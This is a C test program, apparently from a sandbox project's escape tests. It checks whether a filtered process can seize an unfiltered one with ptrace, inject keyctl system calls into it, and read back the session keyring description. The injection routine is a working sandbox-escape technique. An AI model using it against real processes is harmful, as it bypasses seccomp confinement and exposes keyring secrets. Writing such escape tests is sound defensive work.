// tests/escape.rs (check_session_seize): a command of a session looks for another one that is not
// filtered yet, seizes it with ptrace and makes it run a system call the filter refuses.
// In a session: seize a joining command before its filter is installed and make it call
// keyctl(KEYCTL_GET_KEYRING_ID / KEYCTL_DESCRIBE, KEY_SPEC_SESSION_KEYRING): refused by the filter elsewhere.
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>
static long inject(pid_t pid, long nr, long a, long b, long c, long d) {
    struct user_regs_struct saved, r;
    if (ptrace(PTRACE_GETREGS, pid, 0, &saved)) return -10000;
    long word = ptrace(PTRACE_PEEKTEXT, pid, saved.rip - 2, 0);
    if ((word & 0xffff) != 0x050f) return -10001;   /* not stopped right after a syscall insn */
    r = saved; r.rip = saved.rip - 2; r.rax = nr; r.orig_rax = -1;
    r.rdi = a; r.rsi = b; r.rdx = c; r.r10 = d;
    ptrace(PTRACE_SETREGS, pid, 0, &r);
    ptrace(PTRACE_SINGLESTEP, pid, 0, 0); waitpid(pid, NULL, __WALL);
    ptrace(PTRACE_GETREGS, pid, 0, &r);
    ptrace(PTRACE_SETREGS, pid, 0, &saved);
    return r.rax;
}
int main(void) {
    pid_t me = getpid();
    long direct = syscall(250, 0, -3, 0);
    printf("attacker's own keyctl: %ld\n", direct);
    time_t end = time(NULL) + 8;
    while (time(NULL) < end) {
        DIR *d = opendir("/proc"); struct dirent *e;
        while (d && (e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 1 || pid == me) continue;
            char path[64], buf[4096];
            snprintf(path, sizeof path, "/proc/%d/status", pid);
            FILE *f = fopen(path, "r"); if (!f) continue;
            size_t n = fread(buf, 1, sizeof buf - 1, f); fclose(f); buf[n] = 0;
            if (!strstr(buf, "Seccomp:\t0")) continue;
            if (ptrace(PTRACE_SEIZE, pid, 0, 0)) continue;
            ptrace(PTRACE_INTERRUPT, pid, 0, 0); waitpid(pid, NULL, __WALL);
            long id = inject(pid, 250, 0, -3, 0, 0);
            struct user_regs_struct r; ptrace(PTRACE_GETREGS, pid, 0, &r);
            unsigned long at = (r.rsp - 8192) & ~15UL; char desc[129] = {0};
            long len = inject(pid, 250, 6, -3, at, 128);   /* KEYCTL_DESCRIBE */
            for (int i = 0; len > 0 && i < 128; i += 8) { long w = ptrace(PTRACE_PEEKDATA, pid, at + i, 0); memcpy(desc + i, &w, 8); }
            ptrace(PTRACE_DETACH, pid, 0, 0);
            /* -errno: it ran the call, but under its filter (it was seized after its exec): no escape. */
            if (id >= 0) { printf("INJECTED into pid %d: session keyring id %ld (%s)\n", pid, id, desc); return 0; }
        }
        if (d) closedir(d);
    }
    printf("no injection\n"); return 1;
}
